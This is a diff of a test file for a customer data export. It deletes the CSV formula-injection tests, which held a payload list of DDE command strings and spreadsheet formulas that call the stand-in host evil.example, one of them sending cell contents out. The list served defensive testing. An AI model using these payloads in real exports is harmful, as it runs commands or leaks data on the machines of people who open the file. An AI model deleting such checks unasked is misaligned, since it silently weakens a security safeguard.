@@ -1,6 +1,6 @@
 import { afterAll, beforeAll, expect, test } from 'vitest'
-import * as fc from 'fast-check'
 import { item, tomorrow } from '../../orders/test-players.ts'
+import { readCsv } from '../../platform/base/test-csv.ts'
 import type { TestApp } from '../../test-app.ts'
 import { gatherExport } from './gather-export.ts'
 import { exportLists } from './list-exports.ts'
@@ -15,7 +15,6 @@ import {
   type TestCustomer,
 } from './test-customers.ts'
 import { rowsBelow, tracesOf } from './test-traces.ts'
-import { exportCsv, csvField } from './write-export.ts'
 
 let club: TestApp
 let dinda: TestCustomer
@@ -149,74 +148,6 @@ test('the export holds no data of other customers', async () => {
     more: { profileCustomer },
   })
   expect((await mallory.browser.get('/api/profile/export?format=json')).text).not.toMatch(/Victim|PTL-/)
-})
-
-/** Parses CSV by RFC 4180 and removes the leading apostrophes. */
-function readCsv(text: string): string[][] {
-  const lines: string[][] = [[]]
-  const pattern = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/gy
-  for (;;) {
-    const [all, quoted, bare = '', end] = pattern.exec(text) ?? []
-    if (all === undefined || all === '') break
-    lines.at(-1)!.push((quoted?.replaceAll('""', '"') ?? bare).replace(/^'(?='*[=+\-@\t\r\0])/, ''))
-    if (end === '\r\n') lines.push([])
-  }
-  return lines.slice(0, -1)
-}
-
-const payloads = [
-  '=1+1',
-  "=cmd|' /C calc'!A0",
-  '=HYPERLINK("http://evil.example","Pay")',
-  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
-  '+1+1',
-  '+62 812 9034 1180',
-  '-1+1',
-  "-2+3+cmd|' /C calc'!A0",
-  '@SUM(1+1)',
-  '@import',
-  '\t=1+1',
-  '\r=1+1',
-  '\0=1',
-  '\n=1+1',
-  ' =1+1',
-  "'=1+1",
-  "''=1+1",
-  '"=1+1"',
-  '"',
-  '""',
-  ',=1+1',
-  ';=1+1',
-  'a,b',
-  'a"b',
-  'a\r\nb',
-  'a\nb',
-  'a\rb',
-  '',
-  "O'Neil",
-  '🎾 =1',
-  '\u2028=1',
-  'NULL',
-]
-test(`${payloads.length} texts that look like spreadsheet formulas can be read back unchanged`, () => {
-  const rows = payloads.map((value) => ({ value, next: 'x' }))
-  const text = exportCsv([{ list: 'names', rows }])
-  const read = readCsv(text.slice(1))
-  expect(read).toEqual([['names', 'value', 'next'], ...payloads.map((value) => ['names', value, 'x'])])
-  for (const value of payloads) expect(csvField(value).replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r\0]/)
-})
-
-test('any text can be read back unchanged', () => {
-  fc.assert(
-    fc.property(
-      fc.array(fc.tuple(fc.string({ unit: 'grapheme-composite' }), fc.string()), { minLength: 1 }),
-      (pairs) => {
-        const rows = pairs.map(([a, b]) => ({ a, b }))
-        const read = readCsv(exportCsv([{ list: 'l', rows }]).slice(1))
-        expect(read.slice(1)).toEqual(pairs.map(([a, b]) => ['l', a, b]))
-      },
-    ),
-  )
 })
 
 test('all lines have the same number of fields, as RFC 4180 wants', async () => {
